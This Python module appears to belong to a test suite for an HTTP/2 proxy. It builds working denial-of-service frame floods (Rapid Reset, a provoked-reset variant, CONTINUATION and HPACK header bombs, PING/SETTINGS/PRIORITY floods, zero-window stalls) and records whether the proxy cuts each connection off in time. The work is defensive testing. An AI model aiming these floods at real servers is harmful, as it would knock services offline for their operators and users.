"""HTTP/2 clients that keep the proxy busy with anything but requests (or with too many), at full speed."""

import itertools
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import http2
from attack import MIB, SHORT, SLACK, Attack, Scene, eventually, growth
from finding import Finding
from http2 import Connection, frame

CUT_OFF = 1_000
"""Frames after which a flood has to be cut off at the latest."""
PATIENCE = 2.0
"""Seconds that a flood at full speed may last: what was sent before we hear of the end waits in buffers."""
SLOW = 10.0
"""The same if its requests reach an upstream: then it is 1,200 a second, because more would be a load test."""
AT_ONCE = 8
"""Connections."""

Burst = Callable[[int], bytes]
"""The n-th lot of frames."""


def streams(number: int, each: int) -> range:
    """The ids of the n-th lot of streams."""
    return range(1 + 2 * number * each, 1 + 2 * (number + 1) * each, 2)


def rapid_reset(number: int) -> bytes:
    """CVE-2023-44487: requests, each with its end behind it."""
    head = http2.request("ok.test")
    return b"".join(http2.headers(one, head) + frame(http2.RST_STREAM, 0, one, http2.CANCEL) for one in streams(number, 50))


def paced_reset(number: int) -> bytes:
    """The same, but never too many at once, and each lot only once the last has reached its upstream."""
    head = http2.request("hold.test")
    ends = b"".join(frame(http2.RST_STREAM, 0, one, http2.CANCEL) for one in streams(number - 1, 15)) if number else b""
    return ends + b"".join(http2.headers(one, head) for one in streams(number, 15))


def provoked_reset(number: int) -> bytes:
    """CVE-2025-8671: requests, and then for each an error because of which the server has to reset it."""
    head = http2.request("hold.test", method="POST")
    errors = b"".join(http2.window(one, 2**31 - 1) for one in streams(number - 1, 15)) if number else b""
    return errors + b"".join(http2.headers(one, head, end=False) for one in streams(number, 15))


def endless_head(number: int) -> bytes:
    """One head that goes on and on."""
    begin = frame(http2.HEADERS, http2.END_STREAM, 1, http2.request("ok.test")) if number == 0 else b""
    return begin + frame(http2.CONTINUATION, 0, 1, http2.field_line(b"x-more", b"y" * 100)) * 100


def bombs(number: int) -> bytes:
    """A large field in the table, and heads that name it some thousand times: 4 KiB on the wire are 10 MiB."""
    entry = http2.field_line(b"x-bomb", b"b" * 3900, indexed=True)
    head = http2.request("ok.test", fields=entry + b"\xbe" * 4000)
    return b"".join(http2.headers(one, head) for one in streams(number, 4))


def beside_request(frames: bytes) -> Burst:
    """The same frames over and over, beside a request that is being served."""

    def burst(number: int) -> bytes:
        return (http2.headers(1, http2.request("hold.test")) if number == 0 else b"") + frames * 100

    return burst


def empty_data(number: int) -> bytes:
    """A body without a byte and without an end."""
    begin = http2.headers(1, http2.request("hold.test", method="POST"), end=False) if number == 0 else b""
    return begin + frame(http2.DATA, 0, 1) * 100


def dribble(number: int) -> bytes:
    """A download in frames of a byte."""
    begin = http2.settings(s4=0) + http2.headers(1, http2.request("big.test")) if number == 0 else b""
    return begin + http2.window(1, 1) * 100


@dataclass
class Tally:
    """What became of the connections of a flood."""

    cut: int = 0
    told: int = 0
    """How many of them got a GOAWAY."""
    uncut: int = 0
    slowest: float = 0.0
    """Seconds until the last of them was cut off."""


def measured(scene: Scene, burst: Burst, pause: float) -> int | None:
    """The frames of one connection until it is cut off; after each burst it lets the proxy read it."""
    with Connection.open(scene.program.http) as connection:
        frames = 0
        for number in range(400):
            data = burst(number)
            connection.send(data)
            frames += http2.frames(data)
            connection.pump(pause)
            if connection.goaway is not None or connection.closed is not None:
                return frames
    return None


def flood(scene: Scene, burst: Burst, pause: float, patience: float) -> Tally:
    """Several connections in turn, each until it is cut off, and then others in their place."""
    tally, deadline = Tally(), time.monotonic() + scene.seconds
    lanes = [lane(scene, burst, tally, deadline, (pause, patience)) for _ in range(AT_ONCE)]
    while lanes:
        lanes = [turn for turn in lanes if next(turn, None)]
    return tally


def lane(scene: Scene, burst: Burst, tally: Tally, deadline: float, times: tuple[float, float]) -> Iterator[bool]:
    """One place, with one connection after the other; yields after each burst."""
    pause, patience = times
    while time.monotonic() < deadline:
        with Connection.open(scene.program.http) as connection:
            for number in itertools.count():
                connection.send(burst(number), wait=0.02)
                connection.pump(pause)
                if connection.goaway is not None or connection.closed is not None:
                    tally.cut += 1
                    tally.told += connection.goaway is not None
                    tally.slowest = max(tally.slowest, time.monotonic() - connection.begun)
                    break
                if time.monotonic() > connection.begun + patience:
                    tally.uncut += 1
                    break
                yield True


def flooding(burst: Burst, most: int = CUT_OFF, pause: float = 0.0) -> Callable[[Scene], Iterator[Finding]]:
    """An attack with its three bounds."""

    def run(scene: Scene) -> Iterator[Finding]:
        frames = measured(scene, burst, pause or 0.02)
        yield Finding(f"cut off after ≤ {most} frames", "never" if frames is None else str(frames), frames is not None and frames <= most)
        patience = SLOW if pause else PATIENCE
        tally = flood(scene, burst, pause, patience)
        said = f"{tally.cut} connections, the slowest after {tally.slowest:.2f} s; {tally.uncut} were not"
        yield Finding(f"at full speed cut off ≤ {patience:g} s", said, tally.cut > 0 and not tally.uncut)
        yield Finding("GOAWAY", f"{tally.told} of {tally.cut}", tally.told == tally.cut > 0)
        yield growth(scene, AT_ONCE, 4 * MIB)

    return run


def held_heads(scene: Scene) -> Iterator[Finding]:
    """As many requests as a connection may have at once, with heads of nearly 16 KiB, at an upstream that waits."""
    count = scene.of(20, 4)
    fields = b"".join(http2.field_line(b"x-%d" % number, b"v" * 3_700) for number in range(4))
    words = b"".join(http2.headers(1 + 2 * number, http2.request("hold.test", fields=fields)) for number in range(32))
    wanted, connections = scene.counts("hold")[1], []
    for _ in range(count):
        connections.append(Connection.open(scene.program.http))
        connections[-1].send(words)
        wanted += 32
        eventually(lambda: scene.counts("hold")[1] >= wanted, 3)
        time.sleep(0 if scene.quick else 0.5)
    yield growth(scene, count, 4 * MIB)
    for connection in connections:
        connection.end()


def no_window(scene: Scene) -> Iterator[Finding]:
    """32 large answers that may not be sent."""
    limit, count = scene.of(10, 8), scene.of(20, 4)
    words = b"".join(http2.headers(1 + 2 * number, http2.request("big.test")) for number in range(32))
    connections = []
    for _ in range(count):
        connections.append(Connection.open(scene.program.http, http2.settings(s4=0, s1=0)))
        connections[-1].send(words)
        time.sleep(0 if scene.quick else 0.3)
    deadline = time.monotonic() + limit + 6
    while any(one.closed is None for one in connections) and time.monotonic() < deadline:
        for connection in connections:
            connection.pump(0.01)
    last = max((one.closed or float("inf")) - one.begun for one in connections)
    yield Finding(f"closed ≤ {limit} s after the last byte, or {SLACK} later", f"after {last:.1f} s", last <= limit + SLACK)
    yield growth(scene, count, 4 * MIB)


def many_streams(scene: Scene) -> Iterator[Finding]:
    """Three hundred requests at once on a connection that may have 32; more would be cut off as a flood."""
    with Connection.open(scene.program.http) as connection:
        for number in range(3):
            connection.send(b"".join(http2.headers(one, http2.request("hold.test")) for one in streams(number, 100)))
        eventually(lambda: scene.counts("hold")[1] >= 32, 2)
        connection.until(lambda: len(connection.resets) >= 268, 3)
        reached = scene.counts("hold")[1]
        yield Finding("32 reach an upstream", str(reached), reached == 32)
        refused = sum(code == 7 for code in connection.resets.values())
        yield Finding("the others are refused", f"{refused} REFUSED_STREAM", refused == 268)
        yield growth(scene, 1, 4 * MIB)
    time.sleep(scene.seconds / 2)


def bombs_refused(scene: Scene) -> Iterator[Finding]:
    """None of them becomes a request."""
    had = scene.counts("ok")[1]
    yield from flooding(bombs)(scene)
    reached = scene.counts("ok")[1] - had
    yield Finding("none reaches an upstream", str(reached), reached == 0)


PING = frame(http2.PING, 0, 0, bytes(8))
PRIORITY = frame(http2.PRIORITY, 0, 1001, b"\0\0\0\0\x10")


ATTACKS = [
    Attack("rapid-reset", "requests that are cancelled at once", flooding(rapid_reset)),
    Attack("paced-reset", "requests that are cancelled once an upstream has them", flooding(paced_reset, pause=0.0125)),
    Attack("made-you-reset", "requests that the proxy has to reset", flooding(provoked_reset, pause=0.0125)),
    Attack("continuation", "a head without an end", flooding(endless_head)),
    Attack("settings", "SETTINGS, each of which wants an answer", flooding(beside_request(http2.settings(s4=65535)))),
    Attack("ping", "PING, each of which wants an answer", flooding(beside_request(PING))),
    Attack("priority", "PRIORITY of streams that are not there", flooding(beside_request(PRIORITY))),
    Attack("window-update", "WINDOW_UPDATE for nothing", flooding(beside_request(http2.window(0, 1)))),
    Attack("empty-data", "DATA without data", flooding(empty_data)),
    Attack("dribble", "a download by WINDOW_UPDATE of a byte", flooding(dribble)),
    Attack("unknown-frames", "frames of a type that nobody knows", flooding(beside_request(frame(0xEE, 0, 0, b"x")))),
    Attack("header-bomb", "4 KiB of HPACK that are 10 MiB", bombs_refused),
    Attack("held-heads", "32 heads of 15 KiB on each connection", held_heads),
    Attack(
        "zero-window",
        "32 answers that may not be sent",
        no_window,
        flags=(*SHORT, "--transfer-idle-seconds=10"),
        quick_flags=(*SHORT, "--transfer-idle-seconds=8"),
    ),
    Attack("many-streams", "300 requests at once on a connection", many_streams),
]
